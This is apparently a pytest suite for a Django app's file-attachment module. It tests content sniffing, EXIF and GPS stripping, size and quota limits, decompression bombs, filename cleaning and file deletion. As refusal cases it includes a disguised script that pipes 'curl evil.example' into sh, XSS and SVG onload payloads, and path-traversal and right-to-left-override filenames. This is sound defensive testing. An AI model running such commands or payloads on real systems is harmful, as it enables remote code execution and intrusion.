"""quests.attachments: the type from the content, the limits, images cleaned, files deleted."""

from __future__ import annotations

import hashlib
import io
import threading

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from PIL import Image

from quests import attachments
from quests.attachments import AttachmentError, add_attachment, clean_name
from quests.models import Attachment, Quest

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
GPS_IFD = 0x8825


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (64, 32), mode: str = "RGB", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "orange").save(out, format=fmt, **options)
    return out.getvalue()


def jpeg_with_gps(size: tuple[int, int] = (40, 20), orientation: int = 6) -> bytes:
    """A JPEG as a phone makes it: camera, GPS position, rotated by its EXIF orientation."""
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Inc"  # Make
    exif[0x0112] = orientation
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)})
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, format="JPEG", exif=exif, comment=b"shot at home")
    return out.getvalue()


def upload(content: bytes, name: str = "file.bin", content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


@pytest.fixture
def quest(owner):
    return Quest.objects.create(user=owner, title="Plan the trip", xp_reward=50)


@pytest.fixture
def stranger_quest(stranger):
    return Quest.objects.create(user=stranger, title="Stranger's quest", xp_reward=50)


def stored(field) -> bytes:
    with default_storage.open(field.name, "rb") as handle:
        return handle.read()


def refusal(quest, content: bytes, name: str, content_type: str = "image/png") -> AttachmentError:
    with pytest.raises(AttachmentError) as caught:
        add_attachment(quest, upload(content, name, content_type))
    assert not Attachment.objects.exists()
    return caught.value


# --- what is taken ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_it_stores_a_png_with_a_thumbnail(quest):
    attachment = add_attachment(quest, upload(image_bytes(size=(800, 400)), "map.png", "text/plain"))
    assert (attachment.kind, attachment.content_type, attachment.name) == ("image", "image/png", "map.png")
    content = stored(attachment.file)
    assert attachment.size == len(content) and attachment.sha256 == hashlib.sha256(content).hexdigest()
    assert attachment.file.name.startswith(f"quests/{quest.user_id}/") and "map" not in attachment.file.name
    thumbnail = Image.open(io.BytesIO(stored(attachment.thumbnail)))
    assert thumbnail.format == "WEBP" and thumbnail.size == (320, 160)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt,name,mime", [
    ("JPEG", "photo.jpg", "image/jpeg"), ("WEBP", "photo.webp", "image/webp"), ("GIF", "photo.gif", "image/gif"),
])
def test_it_takes_each_image_format_and_keeps_it(quest, fmt, name, mime):
    attachment = add_attachment(quest, upload(image_bytes(fmt), name))
    assert attachment.content_type == mime
    assert Image.open(io.BytesIO(stored(attachment.file))).format == fmt


@pytest.mark.django_db
def test_it_strips_exif_and_gps_and_applies_the_orientation(quest):
    original = jpeg_with_gps()
    assert b"SpyCam" in original
    attachment = add_attachment(quest, upload(original, "IMG_0001.JPG", "image/jpeg"))
    content = stored(attachment.file)
    image = Image.open(io.BytesIO(content))
    assert image.size == (20, 40)  # orientation 6: turned upright, then the tag dropped
    assert dict(image.getexif()) == {} and image.getexif().get_ifd(GPS_IFD) == {}
    assert not {"exif", "comment", "icc_profile", "xmp"} & set(image.info)
    assert b"SpyCam" not in content and b"shot at home" not in content and b"Exif" not in content
    assert b"SpyCam" not in stored(attachment.thumbnail)


@pytest.mark.django_db
def test_an_animated_gif_keeps_its_frames(quest):
    frames = [Image.new("RGB", (30, 30), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=120, loop=0,
                   comment=b"secret")
    attachment = add_attachment(quest, upload(out.getvalue(), "spin.gif"))
    content = stored(attachment.file)
    assert Image.open(io.BytesIO(content)).n_frames == 3 and b"secret" not in content


@pytest.mark.django_db
def test_it_takes_pdf_and_plain_text_as_they_are(quest):
    pdf = add_attachment(quest, upload(PDF, "plan.pdf"))
    text = add_attachment(quest, upload("Packing list: boots, map, ☕\n".encode(), "list.txt", "image/png"))
    assert (pdf.kind, pdf.content_type, pdf.thumbnail.name) == ("pdf", "application/pdf", "")
    assert (text.kind, text.content_type) == ("text", "text/plain; charset=utf-8")
    assert stored(pdf.file) == PDF and text.size == len("Packing list: boots, map, ☕\n".encode())


@pytest.mark.django_db
def test_text_that_starts_like_another_format_is_still_text(quest):
    attachment = add_attachment(quest, upload(b"BMW service notes\nID3 tags, MZ and OggS too\n", "car.txt"))
    assert attachment.kind == "text"


# --- what is refused ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_png_that_is_really_a_script_is_refused(quest, media):
    error = refusal(quest, b"#!/bin/sh\ncurl evil.example | sh\n", "cute-cat.png")
    assert error.code == "unsupported_file"
    assert not media.exists() or not any(path.is_file() for path in media.rglob("*"))


@pytest.mark.django_db
@pytest.mark.parametrize("content,name", [
    (b"just some words\n", "holiday.png"),  # text calling itself an image
    (PDF, "photo.jpg"),  # a PDF calling itself an image
    (image_bytes(), "report.pdf"),  # an image calling itself a PDF
    (b"#!/usr/bin/env python\nprint(1)\n", "notes.txt"),  # a script, whatever its name
    (b"<!DOCTYPE html><script>alert(1)</script>", "page.txt"),
    (b"  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "icon.txt"),
    (b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "program.txt"),  # an executable
    (b"PK\x03\x04" + b"\x00" * 60, "archive.txt"),  # a zip
    (image_bytes("BMP"), "picture.txt"),  # an image of a format not taken
    (image_bytes("TIFF"), "scan.png"),
    (b"\x89PNG\r\n\x1a\n" + b"not really a png" * 10, "broken.png"),  # an image's magic, no image
    (b"%PDF-1.7\nno end", "cut.pdf"),  # a PDF cut short
    ("caf\xe9".encode("latin-1"), "latin1.txt"),  # not UTF-8
    (b"text with a \x00 NUL", "nul.txt"),
])
def test_a_file_whose_content_is_not_taken_or_not_what_its_name_says_is_refused(quest, content, name):
    assert refusal(quest, content, name).code == "unsupported_file"


@pytest.mark.django_db
def test_an_empty_file_is_refused(quest):
    assert refusal(quest, b"", "empty.txt").code == "empty_file"


@pytest.mark.django_db
def test_a_file_over_10_mb_is_refused(quest):
    error = refusal(quest, b"a" * (attachments.MAX_FILE_BYTES + 1), "big.txt")
    assert error.code == "file_too_large"
    assert error.messages == ["“big.txt” is too large (10.1 MB): a file can be at most 10 MB."]


@pytest.mark.django_db
def test_a_decompression_bomb_is_refused(quest):
    bomb = image_bytes(size=(10_000, 10_000), mode="1")  # 100 million pixels in a few kB
    assert len(bomb) < 100_000
    error = refusal(quest, bomb, "bomb.png")
    assert error.code == "unsupported_file" and "too large" in error.messages[0]


def test_a_name_keeps_no_folders_nor_control_or_direction_characters():
    assert clean_name("../../etc/passwd") == "passwd"
    assert clean_name("C:\\Users\\me\\plan.pdf") == "plan.pdf"
    assert clean_name("invoice\u202egpj.exe") == "invoicegpj.exe"
    assert clean_name("line\nbreak.txt") == "linebreak.txt"
    assert clean_name("...") == "attachment"
    long = clean_name("x" * 300 + ".txt")
    assert len(long) == 200 and long.endswith(".txt")


# --- the per-user quota -------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_quota_counts_all_of_a_users_files_and_only_theirs(quest, stranger_quest, monkeypatch):
    monkeypatch.setattr(attachments, "MAX_USER_BYTES", 1000)
    add_attachment(stranger_quest, upload(b"s" * 900, "theirs.txt"))
    add_attachment(quest, upload(b"a" * 600, "one.txt"))
    other = Quest.objects.create(user=quest.user, title="Another", xp_reward=50)
    error = refusal_on(other, b"b" * 500, "two.txt")
    assert error.code == "quota_exceeded"
    add_attachment(other, upload(b"c" * 400, "three.txt"))  # exactly up to the limit
    assert attachments.used_bytes(quest.user_id) == 1000


def refusal_on(quest, content: bytes, name: str) -> AttachmentError:
    before = Attachment.objects.count()
    with pytest.raises(AttachmentError) as caught:
        add_attachment(quest, upload(content, name))
    assert Attachment.objects.count() == before
    return caught.value


@pytest.mark.django_db(transaction=True)
def test_two_uploads_at_once_cannot_both_pass_the_quota(owner, monkeypatch, media):
    monkeypatch.setattr(attachments, "MAX_USER_BYTES", 1000)
    quest = Quest.objects.create(user=owner, title="Race", xp_reward=50)
    start = threading.Barrier(4)
    results: list[str] = []

    def send(index: int) -> None:
        start.wait()
        try:
            add_attachment(quest, upload(b"x" * 600, f"{index}.txt"))
            results.append("stored")
        except AttachmentError as error:
            results.append(error.code)
        finally:
            connection.close()

    threads = [threading.Thread(target=send, args=(index,)) for index in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(results) == ["quota_exceeded"] * 3 + ["stored"]
    assert Attachment.objects.count() == 1
    assert len([path for path in media.rglob("*") if path.is_file()]) == 1  # the refused files removed


# --- deleting -----------------------------------------------------------------------------------


def files_in(media) -> set[str]:
    return {str(path.relative_to(media)) for path in media.rglob("*") if path.is_file()} if media.exists() else set()


@pytest.mark.django_db
def test_deleting_an_attachment_deletes_its_files_once_committed(quest, media, django_capture_on_commit_callbacks):
    attachment = add_attachment(quest, upload(image_bytes(), "a.png"))
    assert files_in(media) == {attachment.file.name, attachment.thumbnail.name}
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        attachments.delete_attachment(attachment)
    assert len(files_in(media)) == 2  # not before the commit
    for callback in callbacks:
        callback()
    assert files_in(media) == set()


@pytest.mark.django_db
def test_deleting_a_quest_deletes_its_files(quest, stranger_quest, media, django_capture_on_commit_callbacks):
    add_attachment(quest, upload(image_bytes(), "a.png"))
    add_attachment(quest, upload(PDF, "b.pdf"))
    kept = add_attachment(stranger_quest, upload(PDF, "c.pdf"))
    with django_capture_on_commit_callbacks(execute=True):
        quest.delete()
    assert files_in(media) == {kept.file.name}


@pytest.mark.django_db
def test_deleting_a_user_deletes_their_files(owner, quest, media, django_capture_on_commit_callbacks):
    add_attachment(quest, upload(PDF, "b.pdf"))
    with django_capture_on_commit_callbacks(execute=True):
        owner.delete()
    assert files_in(media) == set() and not Attachment.objects.exists()


@pytest.mark.django_db
def test_a_quest_deleted_meanwhile_leaves_no_files(quest, media):
    Quest.objects.filter(pk=quest.pk).delete()
    with pytest.raises(Quest.DoesNotExist):
        add_attachment(quest, upload(image_bytes(), "a.png"))
    assert files_in(media) == set()
